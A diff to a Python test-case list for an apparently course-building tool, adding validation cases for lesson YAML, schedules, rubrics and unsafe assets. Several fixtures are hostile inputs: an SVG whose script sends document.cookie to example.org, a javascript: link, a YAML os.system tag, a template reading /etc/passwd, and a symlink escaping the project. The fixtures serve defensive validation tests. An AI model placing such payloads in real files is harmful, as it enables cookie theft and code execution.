@@ -6,8 +6,8 @@ docs/problems.md (the catalogue of problems, generated from these cases).
 
 from __future__ import annotations
 
-from dataclasses import dataclass, field
 from collections.abc import Callable
+from dataclasses import dataclass, field
 
 from conftest import MINIMAL
 from plugins import install_output
@@ -42,11 +42,28 @@ FAILING_OUTPUT = """\
     from coursesmith.outputs.base import Output
 
     class Scratch(Output):
-        name = "slides"
+        name = "posters"
 
         def start(self, context):
             raise KeyError("speaker_notes")
     """
+SCRIPTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 10 10'>\n"
+                "  <script>fetch('https://example.org/?' + document.cookie)</script>\n</svg>\n")
+
+WORKSHEET = """\
+        worksheets:
+          - code: LK-1
+            title: {{id: Lembar kerja, en: Worksheet}}
+            instructions: {{id: Tulis., en: Write.}}
+            prompts: [{{text: {{id: Jawaban, en: Answer}}}}]
+            indicators: [IND-1]
+            bloom: C2
+            assessed: true
+{extra}"""
+GROUP_RUBRIC = """\
+            grouping: small_groups
+            rubric: [{level: 1, text: {id: Cukup, en: Enough}}]
+"""
 
 
 @dataclass
@@ -69,6 +86,10 @@ CASES = [
     Case("yaml-unclosed", "a bracket that is never closed", lesson("references: [ref_2020]", "references: [ref_2020")),
     Case("yaml-unquoted", "a colon inside {…} without quotes",
          lesson('stem: {id: "Pertanyaan?", en: "Question?"}', "stem: {id: Rapat: pagi?, en: Meeting?}")),
+    Case("control-character", "an invisible control character pasted into a text",
+         lesson("title: {id: Sesi satu", "title: {id: Sesi\x00 satu")),
+    Case("link-outside", "a lesson file that is a link to a file outside the project",
+         setup=lambda p, mp: _link_out(p, "modules/m1/les-2.yaml")),
     Case("yaml-tab", "a tab used for indentation", lesson("        jp: 1\n", "        jp: 1\n        \tx: 1\n")),
     Case("yaml-duplicate-key", "the same key twice", lesson("        jp: 1\n", "        jp: 1\n        jp: 2\n")),
     Case("yaml-tag", "a YAML tag", lesson("jp: 1", "jp: !!python/object:os.system 1")),
@@ -109,9 +130,43 @@ CASES = [
     Case("unused-file", "a lesson no module lists",
          {"modules/m1/les-9.yaml": MINIMAL[LESSON].replace("code: LES-1", "code: LES-9")}),
     Case("minutes-mismatch", "activities that do not fill the lesson", lesson("minutes: 45", "minutes: 40")),
+    Case("reflective-without-rubric", "a reflective question without a rubric",
+         lesson("            rationale: {id: Alasan rahasia., en: Secret rationale.}\n",
+                "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n"
+                "          - code: Q2\n            type: reflective\n            prompt: {id: Renungkan., en: Reflect.}\n")),
     Case("answer-not-option", "an answer that is not an option", lesson("answer: a", "answer: c")),
     Case("duplicate-option", "two options with the same key",
          lesson("- {key: b, text: {id: Dua, en: Two}}", "- {key: a, text: {id: Dua, en: Two}}")),
+    Case("indicator-unmeasured", "an indicator no item or scored worksheet measures",
+         lesson("            indicator: IND-1\n", "")),
+    Case("below-indicator", "a recall item measuring an indicator at a higher level",
+         lesson("Secret rationale.}\n            bloom: C2", "Secret rationale.}\n            bloom: C1")),
+    Case("worksheet-without-rubric", "an assessed worksheet without a rubric",
+         lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n")),
+    Case("group-evidence-only", "an individual indicator measured only by a group worksheet",
+         {LESSON: MINIMAL[LESSON].replace("            indicator: IND-1\n", "").replace(
+             "        references: [ref_2020]\n", WORKSHEET.format(extra=GROUP_RUBRIC) + "        references: [ref_2020]\n")}),
+    Case("activity-without-indicator", "an activity that serves no indicator",
+         lesson("            indicators: [IND-1]\n", "")),
+    Case("activity-does-not-scale", "presentations by every group that do not fit a class of 30",
+         {**course("languages: [id, en]", "languages: [id, en]\n        class_size: 30"),
+          **lesson("            indicators: [IND-1]\n",
+                   "            indicators: [IND-1]\n            group_size: 5\n            per_group_minutes: 10\n")}),
+    Case("block-too-long", "a lesson longer than the course's limit without a break",
+         course("languages: [id, en]", 'languages: [id, en]\n        max_block_minutes: 30\n        schedule:\n'
+                '          - start: "08:00"\n            slots:\n              - lesson: LES-1')),
+    Case("task-without-time", "homework due at the end of a coffee break",
+         {**course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
+                   '            slots:\n              - lesson: LES-1\n'
+                   '              - {title: {id: Rehat kopi, en: Coffee break}, minutes: 15, type: break, code: REHAT-1}'),
+          **lesson("            indicators: [IND-1]\n",
+                   "            indicators: [IND-1]\n            homework: {minutes: 20, due: REHAT-1}\n")}),
+    Case("wrong-lesson-reference", "a sentence that sends participants to the wrong lesson for a worksheet",
+         {**lesson("        references: [ref_2020]\n", WORKSHEET.format(extra="") + "        references: [ref_2020]\n"),
+          "modules/m1/les-2.yaml": MINIMAL[LESSON].replace("code: LES-1", "code: LES-2").replace(
+              "participant_instructions: {id: Dengarkan., en: Listen.}",
+              "participant_instructions: {id: Bawa LK-1 dari LES-2., en: Bring LK-1 from LES-2.}"),
+          "modules/m1/module.yaml": MINIMAL["modules/m1/module.yaml"].replace("[LES-1]", "[LES-1, LES-2]")}),
     Case("bad-dates", "a course that ends before it starts",
          course("languages: [id, en]", "languages: [id, en]\n        dates: {start: 2027-03-02, end: 2027-03-01}")),
     Case("bad-slot", "a schedule slot that is neither a lesson nor a timed break",
@@ -123,6 +178,11 @@ CASES = [
     Case("scheduled-twice", "a lesson in two slots",
          course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "08:00"\n'
                 '            slots:\n              - lesson: LES-1\n              - lesson: LES-1')),
+    Case("schedule-overlap", "two entries for the same date whose times overlap",
+         course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - date: 2027-03-01\n'
+                '            start: "08:00"\n            slots:\n              - lesson: LES-1\n'
+                '          - date: 2027-03-01\n            start: "08:30"\n            slots:\n'
+                '              - {title: {id: Rehat, en: Break}, minutes: 15}')),
     Case("day-too-long", "a day that runs past midnight",
          course("languages: [id, en]", 'languages: [id, en]\n        schedule:\n          - start: "23:30"\n'
                 '            slots:\n              - lesson: LES-1')),
@@ -140,6 +200,23 @@ CASES = [
     Case("asset-remote", "an image on the web",
          lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
                 'body: {id: "![Logo](https://example.org/logo.png)", en: "Section."}')),
+    Case("url-scheme", "a javascript: link",
+         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
+                'body: {id: "[Klik](javascript:alert(1))", en: "Section."}')),
+    Case("asset-unsafe", "an SVG image with a script, used by a lesson",
+         {"modules/m1/img/a.svg": SCRIPTED_SVG, **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
+                                                         'body: {id: "![Peta](img/a.svg)", en: "Section."}')}),
+    Case("svg-unsafe", "the same SVG, where its script is",
+         {"modules/m1/img/a.svg": SCRIPTED_SVG, **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
+                                                         'body: {id: "![Peta](img/a.svg)", en: "Section."}')}),
+    Case("css-unsafe", "a print stylesheet that imports another from the web",
+         {"templates/css/print.css": "p { color: black; }\n@import url(https://example.org/x.css);\n"}),
+    Case("image-unreadable", "a PNG file that is not an image",
+         {"modules/m1/img/a.png": b"<html>not an image</html>",
+          **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}', 'body: {id: "![Peta](img/a.png)", en: "Section."}')}),
+    Case("image-large", "a photo far larger than a printed page needs",
+         lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}', 'body: {id: "![Peta](img/a.png)", en: "Section."}'),
+         setup=lambda p, mp: _large_png(p.root / "modules/m1/img/a.png")),
     Case("image-without-alt", "an image without alternative text",
          {"modules/m1/img/a.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>",
           **lesson('body: {id: "Isi **bagian**.", en: "Section **body**."}',
@@ -171,22 +248,38 @@ CASES = [
          stage="build-pdf"),
     Case("pdf-warning", "a stylesheet property WeasyPrint does not support",
          {"templates/css/print.css": "p { no-such-property: 1; }\n"}, stage="build-pdf"),
+    Case("print-setup-error", "a print stylesheet that imports a file that does not exist",
+         {"templates/css/print.css": '@import "missing.css";\np { color: black; }\n'}, stage="build-pdf"),
     Case("pdf-error", "a template that reaches outside the project",
          {"templates/print/handout.html": '<html lang="{{ lang }}"><title>x</title><img src="file:///etc/passwd" alt="x">\n'},
          stage="build-pdf"),
     Case("search-error", "a search indexer that cannot run", stage="build",
          setup=lambda p, mp: mp.setattr("coursesmith.outputs.search.PAGEFIND", ["/nonexistent/pagefind"])),
     Case("output-failed", "an output from another package whose code fails", stage="build",
-         setup=lambda p, mp: install_output(p.root.parent / "site-packages", mp, "slides", FAILING_OUTPUT)),
+         setup=lambda p, mp: install_output(p.root.parent / "site-packages", mp, "posters", FAILING_OUTPUT)),
     Case("question-part-dropped", "a reflective item with a rubric, which GIFT cannot carry", lesson(
-        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n",
-        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n"
+        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n            bloom: C2\n",
+        "            rationale: {id: Alasan rahasia., en: Secret rationale.}\n            bloom: C2\n"
         "          - code: Q2\n            type: reflective\n"
         "            prompt: {id: Apa yang Anda pelajari?, en: What did you learn?}\n"
         "            rubric:\n              - {level: 2, text: {id: Rinci., en: Detailed.}}\n"), stage="build"),
     Case("output-error", "an output folder that cannot be created", stage="build", output="blocked/output",
          setup=lambda p, mp: (p.root / "blocked").write_text("a file, not a folder")),
 ]
+
+
+def _link_out(project, relative: str) -> None:
+    outside = project.root.parent / "outside.yaml"
+    outside.write_text("kind: glossary\nterms: []\n", encoding="utf-8")
+    link = project.root / relative
+    link.symlink_to("../" * relative.count("/") + "../outside.yaml")
+
+
+def _large_png(path) -> None:
+    from PIL import Image
+
+    path.parent.mkdir(parents=True, exist_ok=True)
+    Image.new("1", (3200, 40)).save(path)
 
 
 def _unreadable(project, monkeypatch) -> None:
